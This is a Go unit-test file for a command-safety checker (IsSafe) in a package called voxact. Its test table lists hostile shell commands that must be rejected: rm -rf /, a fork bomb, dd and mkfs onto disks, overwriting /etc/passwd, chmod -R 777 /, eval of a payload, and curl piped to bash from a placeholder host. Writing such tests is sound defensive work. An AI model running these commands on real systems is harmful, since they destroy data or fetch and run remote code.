package voxact

import (
	"strings"
	"testing"
)

func TestIsSafe(t *testing.T) {
	e := &Executor{rules: safetyRules()}

	tests := []struct {
		name   string
		script string
		safe   bool
		reason string
	}{
		{"simple listing", "ls -la", true, ""},
		{"echo", "echo hello world", true, ""},
		{"date", `date "+%H:%M"`, true, ""},
		{"rm -rf root", "rm -rf /", false, "rm -rf /"},
		{"rm -rf home", "rm -rf ~", false, "rm -rf ~"},
		{"rm -rf root uppercase", "RM -RF /", false, "rm -rf /"},
		{"fork bomb", ":(){:|:&};:", false, ":(){:|:&};:"},
		{"device write", "cat x > /dev/sda", false, "> /dev/sd"},
		{"mkfs", "mkfs.ext4 /dev/sdb1", false, "mkfs."},
		{"dd", "dd if=/dev/zero of=/dev/sda", false, "dd if="},
		{"sudo rm", "sudo rm file", false, "sudo rm"},
		{"eval", "eval $payload", false, "eval"},
		{"pipe to sh", "cat script | sh", false, "| sh"},
		{"chmod root", "chmod -R 777 /", false, "chmod -R 777 /"},
		{"redirect into etc", "echo pwned > /etc/passwd", false, "redirection"},
		{"redirect into usr", "echo x > /usr/local/bin/x", false, "redirection"},
		{"read from etc ok", "cat /etc/hostname", true, ""},
		{"curl pipe bash", "curl http://x.sh | bash", false, ""},
		{"wget with eval", "wget http://a; eval $x", false, ""},
		{"plain curl blocked by pipe heuristic", "curl http://example.com/a|b", false, "injection"},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			safe, reason := e.IsSafe(tt.script)
			if safe != tt.safe {
				t.Fatalf("IsSafe(%q) = %v (%q), want %v", tt.script, safe, reason, tt.safe)
			}
			if !safe && tt.reason != "" && !strings.Contains(reason, tt.reason) {
				t.Errorf("IsSafe(%q) reason = %q, want it to mention %q", tt.script, reason, tt.reason)
			}
		})
	}
}

func TestSafetyRuleOrder(t *testing.T) {
	rules := safetyRules()
	want := []string{"blocklist", "redirection", "exfiltration"}
	if len(rules) != len(want) {
		t.Fatalf("safetyRules() returned %d rules, want %d", len(rules), len(want))
	}
	for i, w := range want {
		if rules[i].name != w {
			t.Errorf("rules[%d].name = %q, want %q", i, rules[i].name, w)
		}
	}
}

func TestBlocklistWinsOverHeuristics(t *testing.T) {
	// "curl | bash" trips both the blocklist and the exfiltration heuristic;
	// the blocklist runs first so its reason names the concrete pattern.
	e := &Executor{rules: safetyRules()}
	safe, reason := e.IsSafe("curl | bash")
	if safe {
		t.Fatal("IsSafe(curl | bash) = true, want false")
	}
	if !strings.Contains(reason, "blocked pattern detected") {
		t.Errorf("reason = %q, want the blocklist reason", reason)
	}
}
